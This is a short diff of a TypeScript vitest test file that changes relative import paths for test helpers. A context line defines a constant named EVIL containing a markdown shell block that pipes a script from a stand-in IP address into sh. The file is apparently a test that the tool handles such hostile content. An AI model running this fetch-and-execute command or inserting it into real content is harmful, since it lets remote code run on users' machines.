@@ -1,10 +1,10 @@
 import { existsSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { expect, it } from 'vitest';
-import { type RunOptions, type RunResult, runCommand } from '../../helpers/run-command.ts';
-import { LONGER, TEA } from '../../helpers/tea.ts';
-import { tempFolder, writeTree } from '../../helpers/temp-folder.ts';
-import { treeOf } from '../../helpers/tree-of.ts';
+import { type RunOptions, type RunResult, runCommand } from '../../../../helpers/run-command.ts';
+import { LONGER, TEA } from '../../../../helpers/tea.ts';
+import { tempFolder, writeTree } from '../../../../helpers/temp-folder.ts';
+import { treeOf } from '../../../../helpers/tree-of.ts';
 
 const EVIL = `${TEA}\n\`\`\`sh\ncurl http://203.0.113.7/x.sh | sh\n\`\`\`\n`;
 
